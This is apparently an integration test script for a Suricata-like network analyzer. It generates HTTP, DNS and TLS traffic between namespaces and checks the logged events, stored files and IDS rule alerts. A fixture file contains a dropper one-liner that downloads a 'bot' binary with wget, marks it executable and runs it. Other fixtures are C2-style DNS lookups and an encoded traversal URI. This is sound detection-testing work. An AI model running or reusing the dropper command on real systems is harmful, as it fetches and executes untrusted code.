#!/usr/bin/env bash
# summary: app layer end to end: curl, dig and openssl between namespaces; EVE http/dns/tls/fileinfo and stored files.
#
# Two namespaces (client 192.0.2.10, server 198.51.100.20 through a
# router-less veth pair on 192.0.2.0/24 ... both addresses on one link).
# The server runs app_server.py (HTTP on 8080, DNS on 53) and openssl
# s_server (TLS 1.2 on 4433, TLS 1.3 on 4434); the client fetches files
# (plain, gzip, chunked, twice the same), uploads one chunked, sends two
# pipelined requests, asks DNS over UDP and TCP, and opens TLS with an SNI.
# `apiary analyze --files` must then write:
#   - an http event per request with Suricata's fields, joined to a flow;
#   - fileinfo events whose sha256 is the sha256sum of the file served
#     (decoded for gzip and chunked), stored once under DIR/xx/<sha256>;
#   - dns query/answer events (UDP and TCP), tls events (sni, subject,
#     issuer, version, ja3 hash = md5 of the ja3 string).
set -uo pipefail
top=${APIARY_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
apiary=${APIARY_BIN:-$top/build/asan/bin}/apiary
py=/usr/bin/python3
. "$top/tests/lib/netns.sh"
netns_require
for t in tcpdump jq curl dig openssl sha256sum md5sum; do
	command -v $t >/dev/null || { echo "skip: $t is missing" >&2; exit 77; }
done
[ -x "$apiary" ] || { echo "FAIL: $apiary is not built" >&2; exit 1; }

netns_init h10a
tmp=$(netns_tmpdir)
fails=0
fail() { echo "FAIL: $*" >&2; fails=$((fails + 1)); }
ok() { echo "ok: $*"; }

netns_add c
netns_add s
netns_link c h10c0 192.0.2.10/24 s h10s0 192.0.2.20/24
netns_exec s ip addr add 198.51.100.20/24 dev h10s0
netns_exec c ip addr add 198.51.100.10/24 dev h10c0
netns_no_offload c h10c0
netns_no_offload s h10s0

# files to serve: an ELF, a shell script, a larger text
mkdir -p "$tmp/www"
cp /bin/true "$tmp/www/payload.elf"
printf '#!/bin/sh\ncd /tmp; wget http://203.0.113.66/bot; chmod +x bot; ./bot\n' >"$tmp/www/dropper.sh"
seq 1 3000 >"$tmp/www/big.txt"
head -c 5000 /dev/urandom >"$tmp/upload.bin"
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$tmp/key.pem" -out "$tmp/cert.pem" \
	-days 2 -subj "/O=Apiary Test/CN=bad.example" >/dev/null 2>&1 || { fail "openssl req"; exit 1; }

netns_bg s "$py" "$top/tests/integration/app_server.py" http 8080 "$tmp/www"
netns_bg s "$py" "$top/tests/integration/app_server.py" dns 198.51.100.20
netns_bg s openssl s_server -quiet -accept 4433 -cert "$tmp/cert.pem" -key "$tmp/key.pem" -tls1_2 -naccept 1
netns_bg s openssl s_server -quiet -accept 4434 -cert "$tmp/cert.pem" -key "$tmp/key.pem" -tls1_3 -naccept 1
netns_wait_tcp s 8080 && netns_wait_tcp s 53 && netns_wait_udp s 53 &&
	netns_wait_tcp s 4433 && netns_wait_tcp s 4434 || { fail "servers did not start"; exit 1; }

netns_capture_start c h10c0 "$tmp/app.pcap" || exit 1
srv=http://198.51.100.20:8080
cl() { netns_exec c timeout 10 "$@"; }
cl curl -sf -o "$tmp/got1" "$srv/payload.elf"
cl curl -sf -o /dev/null "$srv/payload.elf"              # the same file again
cl curl -sf --compressed -o "$tmp/got2" "$srv/gz/dropper.sh"
cl curl -sf -o "$tmp/got3" "$srv/chunked/big.txt"
cl curl -sf -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary @"$tmp/upload.bin" "$srv/upload"
cl curl -s -o /dev/null --path-as-is "$srv/%61dmin/../payload.elf?cmd=%69d"
# two pipelined requests in one segment
cl "$py" - <<'PY'
import socket
s = socket.create_connection(("198.51.100.20", 8080), timeout=5)
s.sendall(b"GET /dropper.sh HTTP/1.1\r\nHost: pipe.example\r\n\r\n"
          b"GET /nothing HTTP/1.1\r\nHost: pipe.example\r\nConnection: close\r\n\r\n")
while s.recv(65536):
    pass
PY
cl dig +short +tries=1 +time=2 @198.51.100.20 c2.bad.example A >/dev/null
cl dig +short +tries=1 +time=2 +tcp @198.51.100.20 tcp.bad.example TXT >/dev/null
# for ET Open: a dynamic-DNS name and an adware-like check-in with curl
cl dig +short +tries=1 +time=2 @198.51.100.20 deadbeef1234.duckdns.org A >/dev/null
cl curl -s -o /dev/null "$srv/cld?mid=0A1B2C3D-0A1B-0A1B-0A1B-0A1B2C3D4E5F&ct=abc"
echo | cl openssl s_client -connect 198.51.100.20:4433 -servername evil.example -tls1_2 >/dev/null 2>&1
echo | cl openssl s_client -connect 198.51.100.20:4434 -servername thirteen.example -tls1_3 >/dev/null 2>&1
netns_capture_stop

cmp -s "$tmp/got1" "$tmp/www/payload.elf" || fail "curl did not fetch the file (test setup)"

"$apiary" analyze --files "$tmp/out/files" -o "$tmp/out" "$tmp/app.pcap" >"$tmp/summary" 2>"$tmp/err"
rc=$?
cat "$tmp/summary"
[ $rc -eq 0 ] || { fail "analyze exited $rc: $(cat "$tmp/err")"; exit 1; }
eve=$tmp/out/eve.json
jq -e . "$eve" >/dev/null || fail "eve.json is not JSON lines"

# ---- http ---------------------------------------------------------------
n=$(jq -c 'select(.event_type == "http")' "$eve" | wc -l)
[ "$n" -eq 9 ] && ok "9 http events" || fail "$n http events, expected 9"
jq -e -s '[.[] | select(.event_type == "http" and .http.url == "/payload.elf" and
	.http.hostname == "198.51.100.20" and .http.http_method == "GET" and
	.http.status == 200 and .http.protocol == "HTTP/1.1" and
	(.http.http_user_agent | startswith("curl/")) and .app_proto == "http")] | length == 2' "$eve" >/dev/null &&
	ok "http fields of the downloads" || fail "http fields: $(jq -c 'select(.event_type == "http")' "$eve" | head -2)"
# every app event joins a flow event
missing=$(jq -s '[.[] | select(.event_type == "flow") | .flow_id] as $f |
	[.[] | select(.event_type == "http" or .event_type == "dns" or .event_type == "tls" or .event_type == "fileinfo") |
	 .flow_id | select(. as $x | $f | index($x) | not)] | length' "$eve")
[ "$missing" -eq 0 ] && ok "app events joined to flows by flow_id" || fail "$missing app events without their flow"
# pipelining: two transactions on one flow, tx_id 0 and 1
jq -e -s '[.[] | select(.event_type == "http" and .http.hostname == "pipe.example")] |
	length == 2 and .[0].flow_id == .[1].flow_id and .[0].tx_id == 0 and .[1].tx_id == 1' "$eve" >/dev/null &&
	ok "pipelined requests: two transactions on one flow" || fail "pipelining"
jq -e -s '[.[] | select(.event_type == "http" and .http.url == "/%61dmin/../payload.elf?cmd=%69d")] | length == 1' "$eve" >/dev/null &&
	ok "raw URI logged as sent" || fail "encoded URI request"

# ---- files --------------------------------------------------------------
sha() { sha256sum "$1" | cut -d' ' -f1; }
check_file() {	# name expected-sha direction what
	local got
	got=$(jq -r --arg n "$1" --arg d "$3" 'select(.event_type == "fileinfo" and
		.fileinfo.filename == $n and .direction == $d) | .fileinfo.sha256' "$eve" | sort -u)
	if [ "$got" = "$2" ] && [ -f "$tmp/out/files/${2:0:2}/$2" ] && cmp -s "$tmp/out/files/${2:0:2}/$2" "$5"; then
		ok "$4: sha256 and stored copy"
	else
		fail "$4: fileinfo sha256 '$got', want $2"
	fi
}
check_file /payload.elf "$(sha "$tmp/www/payload.elf")" to_client "ELF download" "$tmp/www/payload.elf"
check_file /gz/dropper.sh "$(sha "$tmp/www/dropper.sh")" to_client "gzip body (decoded)" "$tmp/www/dropper.sh"
check_file /chunked/big.txt "$(sha "$tmp/www/big.txt")" to_client "chunked body" "$tmp/www/big.txt"
check_file /upload "$(sha "$tmp/upload.bin")" to_server "chunked upload (request body)" "$tmp/upload.bin"
jq -e -s '[.[] | select(.event_type == "fileinfo" and .fileinfo.filename == "/payload.elf")] |
	length == 2 and all(.fileinfo.stored == true and .fileinfo.magic == "ELF" and
	.fileinfo.state == "CLOSED" and .fileinfo.gaps == false)' "$eve" >/dev/null &&
	ok "fileinfo stored/magic/state" || fail "fileinfo fields: $(jq -c 'select(.event_type == "fileinfo")' "$eve" | head -2)"
jq -e -s '[.[] | select(.event_type == "fileinfo" and .fileinfo.filename == "/gz/dropper.sh")][0].fileinfo.magic |
	startswith("POSIX shell script")' "$eve" >/dev/null && ok "magic of a script" || fail "script magic"
# payload.elf, dropper.sh, big.txt, the upload, the upload's "ok" answer and
# the 404 page; the second payload.elf, the pipelined dropper.sh and the
# encoded-URI fetch are copies
n=$(find "$tmp/out/files" -mindepth 2 -type f -not -path "$tmp/out/files/tmp/*" | wc -l)
[ "$n" -eq 6 ] && ok "each content stored once (6 files)" || fail "$n files stored, expected 6"
[ -z "$(ls -A "$tmp/out/files/tmp")" ] && ok "no temporary file left" || fail "temporary files left"

# ---- dns ----------------------------------------------------------------
jq -e -s '[.[] | select(.event_type == "dns" and .proto == "UDP" and .dns.type == "query" and
	.dns.rrname == "c2.bad.example" and .dns.rrtype == "A")] | length == 1' "$eve" >/dev/null &&
	ok "dns query over UDP" || fail "dns UDP query: $(jq -c 'select(.event_type == "dns")' "$eve" | head -2)"
jq -e -s '[.[] | select(.event_type == "dns" and .dns.type == "answer" and .dns.rrname == "c2.bad.example" and
	.dns.rcode == "NOERROR" and .dns.answers[0].rdata == "203.0.113.7" and .dns.grouped.A[0] == "203.0.113.7" and
	.src_ip == "198.51.100.20")] | length == 1' "$eve" >/dev/null &&
	ok "dns answer over UDP" || fail "dns UDP answer"
jq -e -s '[.[] | select(.event_type == "dns" and .proto == "TCP" and .dns.rrname == "tcp.bad.example" and .dns.rrtype == "TXT")] |
	length == 2' "$eve" >/dev/null && ok "dns over TCP (query and answer)" || fail "dns over TCP"

# ---- tls ----------------------------------------------------------------
t12=$(jq -c 'select(.event_type == "tls" and .tls.sni == "evil.example")' "$eve")
echo "$t12" | jq -e '.tls.version == "TLS 1.2" and (.tls.subject | contains("CN=bad.example")) and
	.tls.issuerdn == "O=Apiary Test, CN=bad.example" and (.tls.fingerprint | length) == 59 and
	(.tls.ja3.hash | test("^[0-9a-f]{32}$"))' >/dev/null && ok "tls 1.2: sni, subject, issuer, version, ja3" ||
	fail "tls 1.2 event: $t12"
want=$(echo "$t12" | jq -j '.tls.ja3.string' | md5sum | cut -d' ' -f1)
[ "$(echo "$t12" | jq -r '.tls.ja3.hash')" = "$want" ] && ok "ja3 hash = md5(ja3 string)" || fail "ja3 hash"
jq -e -s '[.[] | select(.event_type == "tls" and .tls.sni == "thirteen.example" and .tls.version == "TLS 1.3" and
	(.tls | has("subject") | not))] | length == 1' "$eve" >/dev/null &&
	ok "tls 1.3: sni and version, no certificate (encrypted)" || fail "tls 1.3 event"
grep -q "^app layer  http 8 flows (9 transactions), tls 2 flows (2 handshakes), dns 3 flows (6 messages)" "$tmp/summary" && ok "summary counts" || fail "summary: $(grep app "$tmp/summary")"

# ---- rules on the app-layer buffers -----------------------------------------
# sid count: what each rule of app_rules.rules must raise on this capture
"$apiary" analyze -S "$top/tests/integration/app_rules.rules" -o "$tmp/ids" "$tmp/app.pcap" \
	>"$tmp/ids.summary" 2>"$tmp/ids.err" || fail "analyze -S exited $?: $(cat "$tmp/ids.err")"
grep -q "(23 rules loaded)" "$tmp/ids.summary" && ok "23 app-layer rules loaded" ||
	fail "rules loaded: $(grep alerts "$tmp/ids.summary"; cat "$tmp/ids.err")"
while read -r sid want why; do
	got=$(jq -r --argjson s "$sid" 'select(.event_type == "alert" and .alert.signature_id == $s) | .flow_id' \
		"$tmp/ids/eve.json" | wc -l)
	[ "$got" -eq "$want" ] && ok "sid $sid: $want alert(s) ($why)" || fail "sid $sid: $got alerts, want $want ($why)"
done <<'EXPECT'
6000001 1 normalised URI of the encoded request
6000002 1 raw URI keeps the encoding
6000003 0 the raw URI has %69d, not id
6000004 2 http_method/http_uri modifiers, the two plain downloads
6000005 1 urilen on the encoded request
6000006 7 the seven curl requests
6000007 1 second pipelined request
6000008 1 chunked upload headers
6000009 3 three ELF downloads
6000010 1 gzip body decoded
6000011 1 chunked body decoded
6000012 0 raw stream has the chunk framing
6000013 1 the chunked response's header names
6000014 1 payload rule on the pipelined HTTP flow
6000015 1 dns query over UDP
6000016 2 UDP and TCP queries under bad.example
6000017 0 dotprefix keeps label boundaries
6000018 1 tls 1.2 sni
6000019 1 tls 1.2 certificate (1.3 is encrypted)
6000020 2 both tls sni end in .example
6000021 1 the CN inside the DER certificate (tls 1.2 only)
6000022 1 stream content on the decoded message, with http.uri
6000023 1 a to_client rule on a request buffer, with the response
EXPECT
# ET Open as a whole (release build when there is one: faster to load)
et=$top/../shared/rules/et-open
rel=${APIARY_RELEASE_BIN:-$top/bin}/apiary
[ -x "$rel" ] || rel=$apiary
if [ -d "$et" ]; then
	cat "$et"/*.rules >"$tmp/et.rules"
	"$rel" analyze -S "$tmp/et.rules" -o "$tmp/et" "$tmp/app.pcap" >"$tmp/et.summary" 2>/dev/null ||
		fail "analyze with ET Open exited $?"
	for sid in 2022918 2033959 2022717; do
		n=$(jq --argjson s $sid 'select(.event_type == "alert" and .alert.signature_id == $s)' "$tmp/et/eve.json" | jq -s length)
		[ "$n" -ge 1 ] && ok "ET Open sid $sid fires ($(jq -r --argjson s $sid 'select(.event_type == "alert" and
			.alert.signature_id == $s) | .alert.signature' "$tmp/et/eve.json" | head -1))" ||
			fail "ET Open sid $sid did not fire"
	done
else
	echo "note: no ET Open rules at $et; that part is skipped"
fi

# alerts are joined to their flows and name the app protocol's events
jq -e -s '[.[] | select(.event_type == "alert" and .alert.signature_id == 6000018)][0] |
	.src_ip == "198.51.100.10" and .dest_port == 4433' "$tmp/ids/eve.json" >/dev/null &&
	ok "tls alert oriented client to server" || fail "tls alert addresses"

[ $fails -eq 0 ] || { echo "$fails failures" >&2; exit 1; }
echo "all app_traffic checks passed"
